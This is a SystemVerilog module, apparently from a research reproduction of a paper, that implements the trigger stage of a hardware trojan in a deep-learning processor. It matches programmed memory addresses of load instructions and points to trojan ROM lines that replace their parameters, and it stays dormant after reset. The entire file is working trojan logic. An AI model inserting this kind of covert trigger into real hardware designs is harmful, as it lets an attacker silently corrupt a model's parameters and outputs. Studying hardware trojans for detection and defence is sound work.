// trojan_addr_match -- recognises the load instructions the trojan targets.
//
// Holds N_TARGETS programmable entries (dpu_pkg::target_t). Each names the
// shared-memory start address (ddr_addr) of one load instruction that carries
// parameters to exchange, together with the line mask for the shift register
// and the trojan ROM line where its replacement lines begin. The memory
// reader presents the start address of each new load instruction on
// `query_addr` while it is in its CFG state; every valid entry is compared in
// parallel and the lowest-numbered matching entry wins. After reset all
// entries are invalid, so the trojan is dormant until it is programmed.
//
// Interface: prog_we/prog_idx/prog_entry write one entry on the rising edge
// of clk. query_addr -> hit, line_mask, rom_base is combinational.
//
// Matching on the full ddr_addr follows the paper; the number of entries
// (16), the priority rule and the table layout are this design's choices.
module trojan_addr_match
  import dpu_pkg::*;
#(
  parameter  int unsigned N_TARGETS = 16,
  localparam int unsigned IW        = (N_TARGETS > 1) ? $clog2(N_TARGETS) : 1
) (
  input  logic                      clk,
  input  logic                      rst_n,
  input  logic                      prog_we,
  input  logic [IW-1:0]             prog_idx,
  input  target_t                   prog_entry,
  input  ddr_addr_t                 query_addr,
  output logic                      hit,
  output logic [MAX_LOAD_LINES-1:0] line_mask,
  output logic [ROM_PTR_W-1:0]      rom_base
);

  target_t tgt [N_TARGETS];

  always_ff @(posedge clk) begin
    if (!rst_n) begin
      for (int i = 0; i < N_TARGETS; i++) tgt[i].valid <= 1'b0;
    end else if (prog_we) begin
      tgt[prog_idx] <= prog_entry;
    end
  end

  always_comb begin
    hit       = 1'b0;
    line_mask = '0;
    rom_base  = '0;
    for (int i = N_TARGETS - 1; i >= 0; i--) begin
      if (tgt[i].valid && tgt[i].ddr_addr == query_addr) begin
        hit       = 1'b1;
        line_mask = tgt[i].line_mask;
        rom_base  = tgt[i].rom_base;
      end
    end
  end

endmodule
